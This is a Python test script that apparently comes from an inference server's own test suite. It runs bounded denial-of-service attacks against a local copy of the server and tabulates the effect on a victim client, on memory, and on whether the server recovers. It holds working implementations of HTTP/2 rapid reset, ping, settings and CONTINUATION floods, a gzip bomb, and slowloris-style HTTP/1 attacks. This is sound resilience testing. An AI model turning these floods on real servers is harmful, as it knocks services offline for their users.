#!/usr/bin/env python3
"""Attacks a server of its own on loopback, bounded, and reports what it costs and what others feel.

    tests/attacks/attack.py [--server PROGRAM] [--port PORT] [--seconds S] ATTACK...
    tests/attacks/attack.py --list

For each attack a fresh server is started, with one model. A victim, a client with an address and
a connection of its own, which speaks what the attack speaks (those named http_ HTTP/1.1, the others
gRPC), generates tokens over and over: for --seconds before the attack and while it lasts. Printed
is a row of a table: the victim's tokens a second and the 99th percentile of the time between two of
its messages, before and while; the most memory that the server held, and what it holds after; its
processor time; and whether a new client is served after the attack.

--through PORT attacks, and has its victim, through a proxy that listens there and leads to --port.
"""

import argparse
import json
import os
import resource
import signal
import struct
import subprocess
import sys
import threading
import time
import zlib

import h2
import http1

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..")
GENERATE = "/triptych.v1.InferenceService/Generate"
STATS = "/triptych.v1.KvCacheService/GetKvCacheStats"
HEALTH = "/grpc.health.v1.Health/Check"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"

# The most that an attack may cost a server that withstands it.
MAX_MORE_MEGABYTES = 300
MAX_THREADS = 64


class Server:
    def __init__(self, program, port, descriptors=None):
        limit = f"ulimit -Sn {descriptors}; " if descriptors else ""
        model = os.path.join(ROOT, "models", "shakespeare-mla")
        self.process = subprocess.Popen(
            ["bash", "-c", f'{limit}exec "$0" "$@"', program, "--model", f"mla={model}", "--listen",
             f"127.0.0.1:{port}", "--http", "127.0.0.1:0", "--kv-cache-bytes", "64MiB"],
            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        self.log = []
        for line in self.process.stdout:
            self.log.append(line)
            if "HTTP on" in line:
                self.http_address = line.split("HTTP on ")[1].strip()
            if "listening on" in line:
                self.address = line.split("listening on ")[1].strip()
                break
        else:
            raise SystemExit("".join(self.log))
        threading.Thread(target=self.log.extend, args=(self.process.stdout,), daemon=True).start()
        self.peak = 0
        threading.Thread(target=self.watch, daemon=True).start()

    def status(self, name):
        with open(f"/proc/{self.process.pid}/status") as file:
            for line in file:
                if line.startswith(name + ":"):
                    return int(line.split()[1])
        return 0

    def megabytes(self):
        return self.status("VmRSS") // 1024

    def threads(self):
        return self.status("Threads")

    def cpu(self):
        with open(f"/proc/{self.process.pid}/stat") as file:
            words = file.read().rsplit(")", 1)[1].split()
        return (int(words[11]) + int(words[12])) / os.sysconf("SC_CLK_TCK")

    def watch(self):
        while self.process.poll() is None:
            try:
                self.peak = max(self.peak, self.megabytes())
            except OSError:
                return
            time.sleep(0.02)

    def stop(self):
        """Seconds that a drain took."""
        began = time.monotonic()
        self.process.send_signal(signal.SIGTERM)
        try:
            self.process.wait(timeout=60)
        except subprocess.TimeoutExpired:
            self.process.kill()
        return time.monotonic() - began


class Victim(threading.Thread):
    """Generates over and over, and notes when each message came."""

    def __init__(self, address, tokens=400):
        super().__init__(daemon=True)
        self.address, self.tokens = address, tokens
        self.messages = []  # (time, tokens, begins a reply)
        self.errors = 0
        self.ended = False
        self.start()

    def run(self):
        while not self.ended:
            try:
                self.generate(h2.Connection(self.address, timeout=10, source="127.0.0.2"))
            except OSError:
                self.errors += 1
                time.sleep(0.1)

    def generate(self, connection):
        request = (h2.field(2, b"ROMEO:") + h2.field(4, self.tokens) + h2.field(8, 1))
        stream, data, first, credit = 1, bytearray(), True, 0
        connection.send(h2.frame(h2.WINDOW_UPDATE, payload=h2.credit(1 << 30)),
                        connection.call(stream, GENERATE, request))
        while not self.ended:
            received = connection.read_frame()
            if received is None:
                self.errors += 1
                break
            connection.answer(received)
            kind, flags, number, payload = received
            if number == stream and kind == h2.DATA:
                now = time.monotonic()
                data += payload
                credit += len(payload)
                while len(data) >= 5:
                    size = struct.unpack(">I", data[1:5])[0]
                    if len(data) < 5 + size:
                        break
                    ids = [v for n, v in h2.fields(bytes(data[5:5 + size])) if n == 2]
                    del data[:5 + size]
                    count = sum(1 for v in ids for byte in v if byte < 128)
                    if count:
                        self.messages.append((now, count, first))
                        first = False
            if number == stream and (kind == h2.RST_STREAM or flags & h2.END_STREAM and
                                     kind in (h2.HEADERS, h2.DATA)):
                if first:
                    self.errors += 1
                stream, data, first = stream + 2, bytearray(), True
                connection.send(h2.frame(h2.WINDOW_UPDATE, payload=h2.credit(max(credit, 1))),
                                connection.call(stream, GENERATE, request))
                credit = 0
            if kind == h2.GOAWAY:
                break
        connection.close()

    def figures(self, begin, end):
        """(tokens a second, milliseconds that 99% of the gaps keep, the longest gap)."""
        inside = [m for m in list(self.messages) if begin <= m[0] < end]
        gaps = sorted(b[0] - a[0] for a, b in zip(inside, inside[1:]) if not b[2])
        gaps.append(end - inside[-1][0] if inside else end - begin)
        gaps.sort()
        p99 = gaps[min(len(gaps) - 1, int(len(gaps) * 0.99))] * 1000
        return sum(m[1] for m in inside) / (end - begin), p99, gaps[-1] * 1000


class HttpVictim(Victim):
    """The same over HTTP."""

    def run(self):
        while not self.ended:
            try:
                connection = http1.Connection(self.address, source="127.0.0.2")
                while not self.ended:
                    self.generate(connection)
            except OSError:
                self.errors += 1
                time.sleep(0.1)

    def generate(self, connection):
        body = {"prompt": "ROMEO:", "max_tokens": self.tokens, "stream": True}
        connection.send(http1.post(http1.COMPLETIONS, json.dumps(body).encode()))
        first = True
        for event in connection.events():
            text = "".join(choice["text"] for choice in event.get("choices", []))
            if text:  # whose tokens are bytes
                self.messages.append((time.monotonic(), len(text.encode()), first))
                first = False
        connection.buffer = connection.buffer.split(b"0\r\n\r\n", 1)[-1]
        if first:
            self.errors += 1


def at_once(function, count):
    """Calls it in `count` threads, and waits for them."""
    threads = [threading.Thread(target=function) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


class Attack:
    """Parameters of an attack, and the signal to end it."""

    def __init__(self, address, seconds):
        self.address = address
        self.end = time.monotonic() + seconds
        self.kept = []  # connections to be closed after

    def lasts(self):
        return time.monotonic() < self.end

    def connect(self, **options):
        connection = h2.Connection(self.address, **options)
        self.kept.append(connection)
        return connection

    def connect_http(self, **options):
        connection = http1.Connection(self.address, **options)
        self.kept.append(connection)
        return connection

    def flood_http(self, begin, block, connections=20):
        """Sends `begin` and then the same bytes, on each of some connections, again when closed."""
        sent, closed = [0], [0]

        def run():
            while self.lasts():
                try:
                    connection = http1.Connection(self.address, timeout=2)
                    connection.send(begin)
                    while self.lasts():
                        connection.send(block)
                        sent[0] += len(block)
                except OSError:
                    closed[0] += 1
                    time.sleep(0.01)
        at_once(run, connections)
        return f"{sent[0] >> 20} MiB were taken, closed {closed[0]} times"

    def ask_http(self, request, connections=20):
        """The same request on each of some connections, again when it is answered: what came of it."""
        sizes, refused = [], [0]

        def run():
            while self.lasts():
                try:
                    connection = self.connect_http()
                    while self.lasts():
                        connection.send(request)
                        sizes.append(len(connection.answer()))
                except OSError:
                    refused[0] += 1
                    time.sleep(0.01)
        at_once(run, connections)
        return f"{len(sizes)} answers, {sum(sizes) >> 20} MiB; {refused[0]} refused"

    def hold(self):
        while self.lasts():
            time.sleep(0.05)

    def flood(self, frames, budget=1 << 40):
        """Sends the same bytes until it is time or the server closes the connection; how often."""
        sent = closed = 0
        while self.lasts() and sent * len(frames) < budget:
            connection = self.connect(timeout=5)
            drain(connection)
            try:
                while self.lasts() and sent * len(frames) < budget:
                    connection.send(frames)
                    sent += 1
            except OSError:
                closed += 1
                connection.close()
                time.sleep(0.01)
        return sent, closed


def drain(connection):
    """Reads and drops what comes, in a thread: a server that cannot write would read no more."""
    def read():
        try:
            while connection.socket.recv(1 << 16):
                pass
        except OSError:
            pass
    threading.Thread(target=read, daemon=True).start()


def calls(attack, count=100_000, path=STATS):
    """100,000 calls at once on one connection that never acknowledges a thing."""
    connection = attack.connect(timeout=5)
    drain(connection)
    sent = 0
    try:
        while sent < count and attack.lasts():
            connection.send(*[connection.call(2 * (sent + i) + 1, path) for i in range(100)])
            sent += 100
    except OSError:
        pass
    attack.hold()
    return f"{sent} calls were sent"


def health_calls(attack):
    """The same of health checks, which no engine has a part in."""
    return calls(attack, path=HEALTH)


def calls_on_connections(attack):
    """100 calls at once, as allowed, over and over on each of 20 connections."""
    sent = [0]

    def run():
        while attack.lasts():
            try:
                connection = attack.connect(timeout=5)
                drain(connection)
                for batch in range(20):
                    connection.send(*[connection.call(2 * (100 * batch + i) + 1, STATS)
                                      for i in range(100)])
                    sent[0] += 100
                    time.sleep(0.01)
                connection.close()
            except OSError:
                time.sleep(0.05)
    at_once(run, 20)
    return f"{sent[0]} calls were sent"


def gzip_bomb(attack):
    """Messages of 60 KB that are 60 MB, and of 1 MB that are 1 GB."""
    codes = []
    for size in (60 << 20, 1 << 30):
        packer = zlib.compressobj(9, zlib.DEFLATED, 31)
        payload = b"".join(packer.compress(bytes(1 << 20)) for _ in range(size >> 20))
        payload += packer.flush()
        connection = attack.connect(timeout=10)
        extra = [("grpc-encoding", "gzip")]
        data = h2.message(payload, compressed=True)
        connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.request_headers(HEALTH, extra)))
        try:
            for at in range(0, len(data), 16384):
                last = at + 16384 >= len(data)
                connection.send(h2.frame(h2.DATA, h2.END_STREAM if last else 0, 1,
                                         data[at:at + 16384]))
        except OSError:
            pass
        code = None
        try:
            while (received := connection.read_frame()) is not None and code is None:
                if received[0] == h2.HEADERS and b"grpc-status" in received[3]:
                    after = received[3].split(b"grpc-status", 1)[1]
                    code = after[1:1 + after[0] % 128].decode(errors="replace")
        except OSError:
            pass
        codes.append(code)
    attack.hold()
    return f"answers: status {codes[0]} and {codes[1]}"


def partial_messages(attack):
    """50 KB of a message each on 100 calls of 100 connections, and never the rest."""
    held = 0
    for _ in range(100):
        connection = attack.connect(timeout=2)
        drain(connection)
        try:
            for i in range(100):
                connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, 2 * i + 1,
                                         h2.request_headers(GENERATE)),
                                h2.frame(h2.DATA, 0, 2 * i + 1, struct.pack(">BI", 0, 60000)),
                                *[h2.frame(h2.DATA, 0, 2 * i + 1, bytes(12500))] * 4)
                held += 50_000
        except OSError:
            pass
    attack.hold()
    return f"{held >> 20} MiB were taken"


def idle_connections(attack, count=1100):
    """1,100 connections that do nothing, where 1,024 descriptors are allowed at first."""
    opened = 0
    for _ in range(count):
        try:
            attack.connect(timeout=2)
            opened += 1
        except OSError:
            pass
    attack.hold()
    return f"{opened} connections"


def connections(attack):
    """Connections that are opened and closed, as fast as one thread can."""
    count = 0
    while attack.lasts():
        try:
            h2.Connection(attack.address, timeout=2).close()
            count += 1
        except OSError:
            time.sleep(0.01)
    return f"{count} connections"


def rapid_reset(attack):
    """Calls that are cancelled as soon as they are begun (CVE-2023-44487)."""
    sent = closed = 0
    while attack.lasts():
        connection = attack.connect(timeout=5)
        drain(connection)
        stream = 1
        try:
            while attack.lasts() and stream < 1 << 30:
                frames = []
                for _ in range(100):
                    frames += [connection.call(stream, STATS),
                               h2.frame(h2.RST_STREAM, 0, stream, struct.pack(">I", 8))]
                    stream += 2
                connection.send(*frames)
                sent += 100
        except OSError:
            closed += 1
            connection.close()
    return f"{sent} calls, closed {closed} times"


def pings(attack):
    """PING frames without end (CVE-2019-9512)."""
    sent, closed = attack.flood(h2.frame(h2.PING, payload=b"12345678") * 100)
    return f"{sent * 100} pings, closed {closed} times"


def settings(attack):
    """SETTINGS frames without end (CVE-2019-9515)."""
    sent, closed = attack.flood(h2.frame(h2.SETTINGS) * 100)
    return f"{sent * 100} frames, closed {closed} times"


def continuations(attack, budget=100 << 20):
    """A header block that never ends, of at most 100 MB (CVE-2023-33953, CVE-2024-27316)."""
    connection = attack.connect(timeout=5)
    drain(connection)
    block = h2.header("x-filler", "a" * 16000)
    sent = 0
    try:
        connection.send(h2.frame(h2.HEADERS, 0, 1, h2.request_headers(HEALTH)))
        while sent < budget and attack.lasts():
            connection.send(h2.frame(h2.CONTINUATION, 0, 1, block))
            sent += len(block)
    except OSError:
        pass
    attack.hold()
    return f"{sent >> 20} MiB were taken"


def long_string(attack, budget=37 << 20):
    """A header of 400 MB is announced, and 37 MB of it are sent (CVE-2023-33953)."""
    connection = attack.connect(timeout=5)
    drain(connection)
    sent = 0
    try:
        connection.send(h2.frame(h2.HEADERS, 0, 1, h2.request_headers(HEALTH) + b"\0\1x" +
                                 h2.integer(400_000_000, 7)))
        while sent < budget and attack.lasts():
            connection.send(h2.frame(h2.CONTINUATION, 0, 1, b"a" * 16384))
            sent += 16384
    except OSError:
        pass
    attack.hold()
    return f"{sent >> 20} MiB were taken"


def reflections(attack):
    """5,000 streams of reflection that stay open, on 50 connections."""
    opened = 0
    for _ in range(50):
        try:
            connection = attack.connect(timeout=5)
            drain(connection)
            for i in range(100):
                connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, 2 * i + 1,
                                         h2.request_headers(REFLECTION)))
                opened += 1
        except OSError:
            pass
    attack.hold()
    return f"{opened} streams"


def slow_readers(attack):
    """1,000 streams on 10 connections whose client takes nothing."""
    request = h2.field(2, b"ROMEO:") + h2.field(8, 1)
    for _ in range(10):
        connection = attack.connect(timeout=5, window=0)
        connection.send(*[connection.call(2 * i + 1, GENERATE, request) for i in range(100)])
    attack.hold()
    return "1000 streams"


def http_fields(attack):
    """Heads of four bytes a line that never end, in blocks that end with a line."""
    begin = http1.head("GET", "/health")
    begin += b"a:" + b"b" * (4096 - len(begin) - 4) + b"\r\n"
    return attack.flood_http(begin, b"a:\r\n" * 1024)


def http_chunk_extensions(attack):
    """Chunks whose line never ends."""
    return attack.flood_http(http1.post_chunks(http1.TOKENIZE) + b"1;", b"a" * 4096)


def http_trailers(attack):
    """Bodies whose trailers never end."""
    return attack.flood_http(http1.post_chunks(http1.TOKENIZE) + b"0\r\n", b"a: b\r\n" * 682)


def http_small_chunks(attack):
    """Bodies in chunks of one byte."""
    return attack.flood_http(http1.post_chunks(http1.TOKENIZE), b"1\r\n \r\n" * 10000,
                             connections=4)


def http_tokenize(attack):
    """20 connections that ask for the tokens of the largest texts, one after the other."""
    request = http1.post(http1.TOKENIZE, json.dumps({"text": "a" * 60_000}).encode())
    return attack.ask_http(request)


def http_silent_connections(attack, count=6000):
    """6,000 connections from one address that ask nothing."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    opened = 0
    for _ in range(count):
        try:
            attack.connect_http(timeout=2)
            opened += 1
        except OSError:
            pass
    attack.hold()
    return f"{opened} connections"


def http_partial_bodies(attack):
    """1,000 connections that send half of the largest body, and never the rest."""
    body = b'{"text": "' + b"a" * 40_000
    sent = 0
    for _ in range(1000):
        try:
            connection = attack.connect_http(timeout=2)
            connection.send(http1.post(http1.TOKENIZE, body + b"a" * 40_000)[:len(body)])
            sent += len(body)
        except OSError:
            pass
    attack.hold()
    return f"{sent >> 20} MiB were taken"


def http_unread_answers(attack):
    """1,000 connections that ask for answers of 200 KB and take nothing of them."""
    body = json.dumps({"text": "a" * 60_000}).encode()
    asked = 0
    for _ in range(1000):
        try:
            attack.connect_http(timeout=2, receive_buffer=4096).send(
                http1.post(http1.TOKENIZE, body))
            asked += 1
        except OSError:
            pass
    attack.hold()
    return f"{asked} answers were asked for"


def http_block_maps(attack, streams=48):
    """48 streams, and 500 connections that ask for the map of all blocks, 100 times, and take nothing
    of it; 20 more take theirs and ask again."""
    for number in range(streams):
        body = {"prompt": "ROMEO:", "max_tokens": 400, "stream": True}
        attack.connect_http(source=f"127.0.1.{number + 1}").send(
            http1.post(http1.COMPLETIONS, json.dumps(body).encode()))
    request = http1.head("GET", "/v1/kv-cache?block_map=true") + b"\r\n"
    for number in range(500):
        try:
            attack.connect_http(timeout=2, receive_buffer=4096).send(request * 100)
        except OSError:
            pass
    return attack.ask_http(request)


ATTACKS = [calls, health_calls, calls_on_connections, gzip_bomb, partial_messages, idle_connections,
           connections, rapid_reset, pings, settings, continuations, long_string, reflections,
           slow_readers, http_fields, http_chunk_extensions, http_trailers, http_small_chunks,
           http_silent_connections, http_partial_bodies, http_unread_answers, http_tokenize,
           http_block_maps]


def run(attack, options):
    name = attack.__name__
    server = Server(options.server, options.port, 1024 if attack is idle_connections else None)
    at_start = server.megabytes()
    is_http = name.startswith("http_")
    kind = HttpVictim if is_http else Victim
    address = server.http_address if is_http else server.address
    if options.through:
        address = f"127.0.0.1:{options.through}"
    try:
        victim = kind(address)
        time.sleep(1)
        begin = time.monotonic()
        time.sleep(options.seconds)
        before = victim.figures(begin, time.monotonic())
        cpu, begin = server.cpu(), time.monotonic()
        work = Attack(address, options.seconds)
        said = attack(work)
        end = time.monotonic()
        during = victim.figures(begin, end)
        cpu = server.cpu() - cpu
        threads = server.threads()
        for connection in work.kept:
            connection.close()
        time.sleep(2)
        known = len(victim.messages)
        late = kind(address)
        time.sleep(2)
        served = "yes" if late.messages and len(victim.messages) > known else "NO"
        after = server.megabytes()
        victim.ended = late.ended = True
        errors = victim.errors
    finally:
        drained = server.stop()
    print(f"| {name} | {said} | {before[0]:.0f} | {during[0]:.0f} | {before[1]:.1f} | "
          f"{during[1]:.1f} | {during[2]:.0f} | {server.peak} | {after} | {cpu:.1f} | {threads} | "
          f"{errors} | {served} | {drained:.1f} |", flush=True)
    if options.log:
        sys.stderr.writelines(server.log[-options.log:])
    failures = []
    if served != "yes":
        failures.append("a new client is not served")
    if server.peak > at_start + MAX_MORE_MEGABYTES:
        failures.append(f"memory grew from {at_start} MB to {server.peak} MB")
    if threads > MAX_THREADS:
        failures.append(f"there were {threads} threads")
    for failure in failures if options.check else []:
        print(f"{name}: {failure}", file=sys.stderr)
    return not failures


def main():
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--server", default=os.path.join(ROOT, "build/release/bin/triptych-server"))
    parser.add_argument("--port", type=int, default=0,
                        help="that the server listens on; the system chooses one if 0")
    parser.add_argument("--through", type=int)
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--log", type=int, default=0, help="last lines of the server's log")
    parser.add_argument("--check", action="store_true",
                        help="fail unless the server serves after, within bounds of memory and "
                        "threads")
    parser.add_argument("--list", action="store_true")
    parser.add_argument("attacks", nargs="*", metavar="ATTACK", help="all of them if none is named")
    options = parser.parse_args()
    known = {attack.__name__: attack for attack in ATTACKS}
    if options.list:
        for name, attack in known.items():
            print(f"{name}: {attack.__doc__}")
        return
    unknown = [name for name in options.attacks if name not in known]
    if unknown:
        parser.error(f"{unknown[0]} is not an attack; allowed: {', '.join(known)}")
    print("| attack | did | tokens/s before | while | p99 gap before (ms) | while | longest (ms) | "
          "peak MB | after | CPU s | threads | victim's errors | serves after | drain s |")
    print("|---" * 14 + "|")
    held = [run(known[name], options) for name in options.attacks or known]
    if options.check and not all(held):
        raise SystemExit(1)


if __name__ == "__main__":
    main()
